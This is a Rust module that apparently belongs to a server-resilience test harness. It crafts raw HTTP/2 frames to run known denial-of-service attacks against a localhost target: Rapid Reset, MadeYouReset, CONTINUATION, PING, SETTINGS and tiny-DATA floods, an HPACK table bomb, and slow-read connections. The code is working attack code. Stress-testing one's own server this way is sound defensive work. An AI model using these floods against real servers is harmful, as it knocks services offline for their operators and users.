//! Floods of frames over one connection of HTTP/2 (RFC 9113). Each ends when the server closes.

use anyhow::Result;
use tokio::io::AsyncWriteExt;

use super::{Target, connect, until_closed};
use crate::client::Protocol;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// Frames of one write.
const BATCH: usize = 100;
/// A value that fits a table of 4096 bytes.
const LARGE: usize = 4_000;
/// References to it in one head.
const REFERENCES: usize = 16_000;
/// `SETTINGS_INITIAL_WINDOW_SIZE`.
const WINDOW: u16 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A literal without indexing, of texts shorter than 127 bytes.
fn line(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
    [&[0][..], &text(name), &text(value)].concat()
}

/// A request's pseudo-fields; `:method GET`, `:scheme https` by their index.
fn get(path: &str) -> Vec<u8> {
    [&[0x82, 0x87][..], &line(":path", path), &line(":authority", "localhost")].concat()
}

fn post(target: &Target) -> Vec<u8> {
    // `:method POST`, and a token, which is longer than `line` takes: its length in three bytes (RFC 7541 section 5.1).
    let bearer = format!("Bearer {}", target.token);
    let rest = bearer.len() - 0x7f;
    let length = [0x7f, (rest & 0x7f) as u8 | 0x80, (rest >> 7) as u8];
    let authorization = [&[0, 13][..], b"authorization", &length, bearer.as_bytes()].concat();
    let pseudo = [&[0x83, 0x87][..], &line(":path", "/api/v1/search"), &line(":authority", "localhost")].concat();
    [&pseudo[..], &line("content-type", "application/json"), &authorization].concat()
}

/// Sends `first` and then what `next` gives, until the server closes.
async fn flood(target: &Target, first: &[u8], mut next: impl FnMut() -> Vec<u8>) -> Result<()> {
    let (read, mut write) = tokio::io::split(connect(target, Protocol::Http2).await?);
    let sending = async {
        write.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), first].concat()).await?;
        loop {
            write.write_all(&next()).await?;
        }
    };
    until_closed(sending, read).await;
    Ok(())
}

/// Gives each of a batch of requests its stream.
fn batches(mut one: impl FnMut(u32) -> Vec<u8>) -> impl FnMut() -> Vec<u8> {
    let mut streams = (1_u32..).step_by(2);
    move || streams.by_ref().take(BATCH).flat_map(&mut one).collect()
}

pub(super) async fn rapid_reset(target: &Target) -> Result<()> {
    let block = get("/health/ready");
    let one = move |stream| {
        let request = frame(HEADERS, END_STREAM | END_HEADERS, stream, &block);
        [request, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    };
    flood(target, &[], batches(one)).await
}

pub(super) async fn made_you_reset(target: &Target) -> Result<()> {
    let block = get("/health/ready");
    let one = move |stream| {
        // A window past its largest is an error of the stream.
        let update = frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]);
        [frame(HEADERS, END_HEADERS, stream, &block), update].concat()
    };
    flood(target, &[], batches(one)).await
}

pub(super) async fn continuation(target: &Target) -> Result<()> {
    let begun = frame(HEADERS, END_STREAM, 1, &get("/health/ready"));
    let more = frame(CONTINUATION, 0, 1, &line("x", "y")).repeat(BATCH);
    flood(target, &begun, || more.clone()).await
}

pub(super) async fn pings(target: &Target) -> Result<()> {
    let pings = frame(PING, 0, 0, &[0; 8]).repeat(BATCH);
    flood(target, &[], || pings.clone()).await
}

pub(super) async fn settings(target: &Target) -> Result<()> {
    let settings = frame(SETTINGS, 0, 0, &[0, WINDOW as u8, 0, 1, 0, 0]).repeat(BATCH);
    flood(target, &[], || settings.clone()).await
}

pub(super) async fn small_data(target: &Target) -> Result<()> {
    let request = frame(HEADERS, END_HEADERS, 1, &post(target));
    let crumbs = frame(DATA, 0, 1, b" ").repeat(BATCH);
    flood(target, &request, || crumbs.clone()).await
}

pub(super) async fn bomb(target: &Target) -> Result<()> {
    // Into the dynamic table, with a length of two bytes more than the prefix, and then its index again and again.
    let rest = LARGE - 0x7f;
    let kept = [&[0x40, 1, b'x', 0x7f, (rest & 0x7f) as u8 | 0x80, (rest >> 7) as u8][..], &[b'v'; LARGE]].concat();
    let first = frame(HEADERS, END_STREAM | END_HEADERS, 1, &[get("/health/ready"), kept].concat());
    let block = [get("/health/ready"), vec![0xbe; REFERENCES]].concat();
    let mut streams = (3_u32..).step_by(2);
    flood(target, &first, move || {
        streams.next().map_or_else(Vec::new, |stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &block))
    })
    .await
}

/// Requests of a large answer, with windows that stay shut.
pub(super) fn unread(count: usize) -> Vec<u8> {
    let shut = [&WINDOW.to_be_bytes()[..], &[0; 4]].concat();
    let block = get("/openapi.json");
    let requests = (1_u32..).step_by(2).take(count);
    let requests = requests.flat_map(|stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &block));
    [PREFACE, &frame(SETTINGS, 0, 0, &shut)].concat().into_iter().chain(requests).collect()
}

/// A connection whose first head begins.
pub(super) fn begun() -> Vec<u8> {
    let whole = frame(HEADERS, END_STREAM | END_HEADERS, 1, &[0; 200]);
    [PREFACE, &frame(SETTINGS, 0, 0, &[]), &whole[..20]].concat()
}
